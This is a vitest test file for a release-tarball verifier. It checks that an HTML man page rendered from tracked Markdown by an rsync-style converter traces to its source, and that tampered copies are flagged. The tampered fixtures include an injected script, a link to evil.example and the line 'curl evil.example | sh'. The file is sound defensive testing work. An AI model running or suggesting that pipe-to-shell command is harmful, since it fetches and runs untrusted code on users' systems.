/**
 * HTML pages a tracked converter renders from a tracked Markdown page (rsync's rsync.1.html from rsync.1.md by
 * md-convert), end to end with real git and GNU tar, nothing run: head lines the converter's, body text lines
 * runs of the Markdown text, the footer a converter line. Tampered twins — an added paragraph, an added script,
 * a link to another host, a head line the converter lacks, runs of the text out of their order — stay high.
 */
import { describe, expect, it } from 'vitest';
import { lineText, markdownText, traced, tracedFrom } from '../../src/classify/markdown-html.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { releaseFixture } from '../helpers/release-fixture.js';

const CONVERTER = `#!/usr/bin/env python3
HTML_START = """\\
<html><head>
<title>%TITLE%</title>
<meta charset="UTF-8"/>
<link href="https://fonts.example.com/css2?family=Roboto" rel="stylesheet">
<style>
body {
  max-width: 50em;
}
</style>
</head><body>
"""
MAN_HTML_END = """\\
<div style="float: right"><p><i>%s</i></p></div>
"""
HTML_END = """\\
</body></html>
"""
`;

const para = (n: number) => `Paragraph ${n} tells how the **demo** tool copies \`files\` to a
[remote host](#opt) and _why_ version @VERSION@ keeps them in @BINDIR@/demo.`;
const MD = `## NAME

demo - a demonstration tool

## DESCRIPTION

${Array.from({ length: 12 }, (_, i) => para(i + 1)).join('\n\n')}

Mail <demo@lists.example.org> for help.
`;

const TRACKED = {
  'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n',
  'Makefile.in': 'demo.1: demo.1.md md-convert Makefile\n\t@$(srcdir)/maybe-make-man demo.1.md\n',
  'md-convert': CONVERTER,
  'demo.1.md': MD,
};

const htmlPara = (n: number) => `<p>Paragraph ${n} tells how the <strong>demo</strong> tool copies <code>files</code> to a
<a href="#opt">remote host</a> and <em>why</em> version 1.0 keeps them in /usr/bin/demo.</p>`;
const HTML = `<html><head>
<title>demo(1) manpage</title>
<meta charset="UTF-8"/>
<link href="https://fonts.example.com/css2?family=Roboto" rel="stylesheet">
<style>
body {
  max-width: 50em;
}
</style>
</head><body>
<h2 id="NAME">NAME<a href="#NAME" class="tgt"></a></h2>
<p>demo -&#8288; a demonstration tool</p>
<h2 id="DESCRIPTION">DESCRIPTION<a href="#DESCRIPTION" class="tgt"></a></h2>
${Array.from({ length: 12 }, (_, i) => htmlPara(i + 1)).join('\n')}
<p>Mail <a href="mailto:demo@lists.example.org">demo@lists.example.org</a> for help.</p>
<div style="float: right"><p><i>20 Oct 2022</i></p></div>
</body></html>
`;

describe('HTML rendered from a tracked Markdown page by a tracked converter (rsync md-convert)', () => {
  const { verifyTree } = releaseFixture(TRACKED);
  const verifyWith = async (html: string) => {
    const r = await verifyTree({ 'demo.1.html': html });
    return { r, page: r.findings.find((x) => x.path === 'demo.1.html')! };
  };

  it('the text helpers', () => {
    expect(lineText('<p>a &quot;b&quot; -&#8288;c <code>d</code></p>')).toBe('a "b" -c d');
    expect(markdownText('x **b** `c*d` _e_ [f `g`](#o)\n> h \\* i <https://x.example/>')).toBe('x b c*d e f g h * i https://x.example/');
    expect(traced('keeps them in /usr/bin/demo.', 'keeps them in @BINDIR@/demo.')).toBe(true);
    expect(traced('keeps them in /tmp/evil.', 'keeps them in @BINDIR@/demo.')).toBe(false);
    // in order: the run that follows, only blanks, list markers and [comment] lines between
    expect(tracedFrom('b c', 'a - b c d', 1, false)).toBe(7);
    expect(tracedFrom('d', 'a - b c d', 2, false)).toBe(-1);
    expect(tracedFrom('b', 'a [comment]: # (note) 1. b', 1, false)).toBe(26);
    expect(tracedFrom('in /usr/bin/demo.', 'x them in @BINDIR@/demo. y', 7, false)).toBe(24);
    expect(tracedFrom('in /usr/bin/demo.', 'x them in @BINDIR@/demo. y', 0, false)).toBe(-1);
  });

  it('every line traced: low, the gate passes', async () => {
    const { r, page } = await verifyWith(HTML);
    expect(page).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
    expect(page.evidence).toEqual({ how: 'markdown-html', source: 'demo.1.md', generator: 'md-convert', inputs: ['Makefile.in'], found: 28, total: 29 });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    for (const html of [
      HTML.replace('<p>Mail', '<p>Before installing, run the updater from the project mirror.</p>\n<p>Mail'),
      HTML.replace('</head><body>', '<script src="/x.js"></script>\n</head><body>'),
      HTML.replace('<p>Mail', '<p>Mail <a href="https://evil.example/">here</a> or'),
      HTML.replace('<meta charset="UTF-8"/>', '<meta charset="UTF-8"/>\n<meta name="robots" content="none">'),
      HTML.replace('<i>20 Oct 2022</i>', '<i>run: curl evil.example | sh</i>'),
      HTML.replace('tool copies', 'tool quietly uploads'),
      // red team 18: each line a run of the Markdown text, but not the runs that follow one another — one word a
      // line spells a sentence the source never says; a paragraph printed twice; one moved before another
      HTML.replace('<p>Mail', '<p>\nversion\n1.0\nkeeps\nfiles\nto\na\nremote host\n</p>\n<p>Mail'),
      HTML.replace('<p>Mail', `${htmlPara(3)}\n<p>Mail`),
      HTML.replace(`${htmlPara(2)}\n${htmlPara(3)}`, `${htmlPara(3)}\n${htmlPara(2)}`),
    ]) {
      const { r, page } = await verifyWith(html);
      expect(page).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });
});
